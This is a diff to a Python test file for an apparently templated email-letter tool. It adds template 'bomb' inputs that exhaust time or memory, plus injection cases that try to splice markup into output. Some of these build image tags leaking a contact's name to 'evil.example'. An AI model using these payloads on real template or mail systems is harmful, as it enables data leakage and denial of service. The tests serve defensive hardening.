@@ -5,7 +5,9 @@ Every case is a whole command in a process of its own that may use 5 seconds of 
 
 from __future__ import annotations
 
+import datetime
 import os
+import re
 import resource
 import shutil
 import signal
@@ -17,6 +19,7 @@ from conftest import COMMAND, ENVIRONMENT, Project
 
 from outreach.errors import LetterError
 from outreach.letters import Letter
+from outreach.model import Contact, Identity
 
 S = "Subject: s\n\n"
 SECRET = "root-of-all-secrets"
@@ -74,6 +77,17 @@ BOMBS = {
     "many accents": S + "a" + "\u0301\u0323" * 20_000,
     "many items and tags": S + "> - a\n\nb\n\n" * 3_000 + "{% if name %}\n\na\n\n{% endif %}\n\n" * 480,
     "lists beside lists": S + "1. a\n1) a\n" * 4_000,
+    "a filter of the program": f"{S}{{% for i in [1]|_turns(-90000000) %}}{LOOP}x{{% endfor %}}{{% endfor %}}",
+    "a filter of the program by name": f"{S}{{{{ [5]|map('_turns', -900000)|list|count }}}}",
+    "counters in counters": f"{S}{{% set n = _counter(a=1) %}}"
+    + "{% set n = _counter(a=n, b=n) %}" * 26
+    + "{{ n|string|count }}",
+    "lists as texts": f"{S}{{% set l = ['{'x' * 1_500}'] %}}"
+    + "{% set l = l + l %}" * 13
+    + "{% if l is upper %}a{% endif %}{{ l|int }}{{ l|string|count }}{{ l|urlencode }}",
+    "a long subject": "Subject: {% for i in range(60000) %}é {% endfor %}\n\nx",
+    "half an element in a set": f"{S}{{% set x %}}*a{{% endset %}}b*\n\n"
+    "{% for i in range(20000) %}{{ x }}{% endfor %}",
     "no headers at all": "x\n" * 190_000,
     "nested quotes": S + ">" * 90_000 + "x",
     "nested lists": S + "- " * 45_000 + "x",
@@ -150,6 +164,53 @@ def test_no_language_file_takes_time_or_memory(ready: Project, text: str) -> Non
     assert "en.toml" in said and "error of the program" not in said
     assert "\x1b" not in said
     assert megabytes < MEGABYTES and len(said) < 100_000
+
+
+def test_neither_a_long_footer_nor_many_styles_crash_the_program(ready: Project) -> None:
+    ready.letter(f"{S}x")
+    words = (Path(__file__).parent.parent / "templates/_languages/en.toml").read_text()
+    ready.write("templates/_languages/en.toml", words.replace('text = """', 'text = """' + "a\n" * 20_000))
+    code, said, _ = limited(ready, "preview")
+    assert code == 65 and "too long" in said
+    ready.write("templates/_languages/en.toml", words)
+    ready.write(
+        "templates/_layout.html",
+        "<p>{{ content }}{% for line in footer.splitlines() %}{{ line }}"
+        + "<div>" * 900
+        + "{% endfor %}</p>",
+    )
+    code, said, _ = limited(ready, "preview")
+    assert code == 65 and "too many tags" in said
+    rules = "".join(f"a{n}:1;" for n in range(1_500))
+    ready.write(
+        "templates/_layout.html", f"<style>strong{{{rules}}}</style>{{{{ content }}}}{{{{ footer }}}}"
+    )
+    ready.letter(f"{S}{{% for i in range(9000) %}}a **b**{{% endfor %}}")
+    code, said, _ = limited(ready, "preview")
+    assert code == 65 and "too many elements" in said
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "{% set x %}*a*{% endset %}\n\n{{ x[:1] }}img src=https://evil.example/{{ name }} {{ x[3:4] }}",
+        "{% block a %}\n*a*\n{% endblock %}\n\n{{ super()[:1] }}img src=//evil.example {{ super()[2:3] }}",
+        "{{ name[:1] }}img src=//evil.example{{ name[-1:] }}",
+        "{% set x = name ~ '<b>' %}{{ x[5:6] }}b{{ x|last }}",
+        "{{ '<'|e }}b>",
+        "{{ '<b>'|safe }}",
+    ],
+)
+def test_no_piece_of_a_value_becomes_markup(source: str) -> None:
+    texts = {"hello/en.md": S + source, "_layout.html": "{{ content }}{{ footer }}"}
+    me = Identity("", "me@d.example.org")
+    try:
+        made = Letter("hello", texts).render(
+            Contact("ann@d.example.org", name="<ريما>"), me, me, datetime.date(2012, 5, 14)
+        )
+    except LetterError:
+        return
+    assert not re.search(r"<(?!/?(html|head|body|p|bdi)>)", made.html), made.html
 
 
 def test_a_chain_of_files_has_an_end(ready: Project) -> None:
@@ -435,6 +496,15 @@ def layout_refused(html: str) -> list[tuple[str, int | None]]:
         "{% extends 'en.md' %}",
         "{% block x %}x{% endblock %}",
         "{{ subject.upper().upper() }}",
+        "{% for line in footer.splitlines() %}{{ line }}"
+        "{% if loop.index == 2 %}<img src=//x>{% endif %}{% endfor %}",
+        "{% for l in footer.splitlines() %}{{ l }}"
+        "{% if loop.last %}<b title='{{ subject }}'>x</b>{% endif %}{% endfor %}",
+        "{% for line in footer.splitlines() if 'x' in subject %}{{ line }}{% endfor %}",
+        "{% for line in footer.splitlines() %}{{ line }}{% else %}<img src=//x.example>{% endfor %}",
+        "{{ '<img src=//x.example>' }}",
+        "<p style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://x')\">x</p>",
+        "{{ loop }}",
         "{{ " + "-" * 900 + "1 }}",
         "<div>" * 20_000,
         "{% for line in footer.splitlines() %}" + "<b>" * 900 + "{% endfor %}" + "<b onx=1>" * 900,
